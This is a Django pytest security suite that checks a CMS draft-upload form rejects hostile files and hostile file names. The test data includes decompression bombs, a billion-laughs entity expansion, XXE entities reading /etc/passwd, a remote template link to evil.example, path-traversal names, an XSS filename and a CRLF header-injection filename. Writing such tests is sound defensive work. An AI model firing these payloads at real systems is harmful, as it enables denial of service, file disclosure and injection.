"""Files that attack: through the editor's own form each gets a sentence, and nothing is kept."""

import resource
import zipfile
from io import BytesIO

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cms.models import DraftPage
from cms.publishing.site import lay_site
from tests.cms.importing.word_files import (
    CONTENT_TYPES,
    MAIN,
    RELATIONSHIPS,
    external,
    p,
    part,
    small_law,
)
from tests.factories import UserFactory
from tests.security.scene import client_of

pytestmark = pytest.mark.django_db

BILLION = (
    '<!DOCTYPE a [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def package(body=None, *, main=MAIN, more=(), rels="") -> bytes:
    content = BytesIO()
    document = body or part("document", f"<w:body>{''.join(small_law())}</w:body>")
    parts = [
        ("[Content_Types].xml", CONTENT_TYPES.format(main=main)),
        ("_rels/.rels", RELATIONSHIPS.format("")),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", RELATIONSHIPS.format(rels)),
        *more,
    ]
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts:
            archive.writestr(name, text)
    return content.getvalue()


def law(text: str) -> str:
    return part("document", f"<w:body>{''.join(small_law())}{text}</w:body>")


MACROS = MAIN.replace("wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
ATTACKS = {
    "a bomb in one text node": ("a.docx", lambda: package(law(p("A" * 25_000_000)))),
    "a bomb in another part": (
        "a.docx",
        lambda: package(more=[("word/media/x.bin", b"\0" * 105_000_000)]),
    ),
    "300,000 empty paragraphs": ("a.docx", lambda: package(law("<w:p/>" * 300_000))),
    "a bottomless nest": ("a.docx", lambda: package(law("<w:tbl>" * 9_000 + "</w:tbl>" * 9_000))),
    "3,000 parts": ("a.docx", lambda: package(more=[(f"x/{n}.xml", "<a/>") for n in range(3000)])),
    "an entity that reads a file": ("a.docx", lambda: package(ENTITY + law(""))),
    "a billion laughs": ("a.docx", lambda: package(BILLION + law(p("&c;")))),
    "an entity in UTF-16": ("a.docx", lambda: package((ENTITY + law("")).encode("utf-16"))),
    "macros under another name": ("a.docx", lambda: package(main=MACROS)),
    "macros beside the text": (
        "a.docx",
        lambda: package(more=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
    ),
    "an embedded object": (
        "a.docx",
        lambda: package(more=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")]),
    ),
    "two documents in one": (
        "a.docx",
        lambda: package(more=[("word/document.xml", law(p("Điều 9. Khác")))]),
    ),
    "a template from elsewhere": (
        "a.docx",
        lambda: package(rels=external("attachedTemplate", "https://evil.example/t.dotm")),
    ),
    "a linked picture": (
        "a.docx",
        lambda: package(rels=external("image", "file:///etc/passwd")),
    ),
    "a PDF that is a Word file too": ("a.docx", lambda: b"%PDF-1.7\n" + package()),
    "a Word file named PDF": ("a.pdf", package),
    "a page named Word": ("a.docx", lambda: b"<html><script>alert(1)</script></html>"),
    "a program": ("a.docx", lambda: b"MZ" + b"\0" * 4096),
    "a cut-off PDF": ("a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<< /Length 99999999 >>\nstream\n"),
    "a PDF of nothing": ("a.pdf", lambda: b"%PDF-1.7\n" + b"\0" * 100_000),
    "lines without an end": ("a.txt", lambda: b"\xff\xfe\xfa" * 400_000),
    "nothing": ("a.docx", lambda: b""),
}


@pytest.fixture
def editor(settings, tmp_path):
    settings.REQUIRE_SECOND_FACTOR = False
    settings.MEDIA_ROOT = tmp_path / "files"
    lay_site(base_url="http://testserver", name="Góp ý")
    return client_of(UserFactory(is_superuser=True, is_staff=True))


def kept() -> int:
    models = apps.get_app_config("cms").get_models()
    return sum(model._default_manager.count() for model in models)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_gets_a_sentence_and_nothing_is_kept(
    editor, settings, attack, django_capture_on_commit_callbacks
):
    name, make = ATTACKS[attack]
    file = SimpleUploadedFile(name, make())
    before, memory = kept(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    with django_capture_on_commit_callbacks(execute=True):
        answer = editor.post(reverse("upload_draft"), {"file": file, "tracked_changes": "ask"})

    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory
    assert answer.status_code == 422
    assert answer.context["form"].errors["file"][0]
    assert kept() == before
    assert [path for path in settings.MEDIA_ROOT.rglob("*") if path.is_file()] == []
    assert grown < 100_000


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd.docx",
        "<img src=x onerror=alert(1)>.docx",
        'a"\r\nSet-Cookie: x=1.docx',
        "\u202excod.exe.docx",
        "x" * 240 + ".docx",
        "CON.docx",
    ],
)
def test_a_hostile_file_name_is_only_words(editor, settings, name):
    file = SimpleUploadedFile("a.docx", package())
    file._name = name

    answer = editor.post(
        reverse("upload_draft"), {"file": file, "tracked_changes": "ask"}, follow=True
    )

    assert answer.status_code in (200, 422)
    assert b"<img src=x" not in answer.content
    stored = [path for path in settings.MEDIA_ROOT.rglob("*") if path.is_file()]
    assert all(settings.MEDIA_ROOT in path.resolve().parents for path in stored)
    assert not any(mark in path.name for path in stored for mark in '<>"\r\n\u202e')
    assert DraftPage.objects.count() == 0
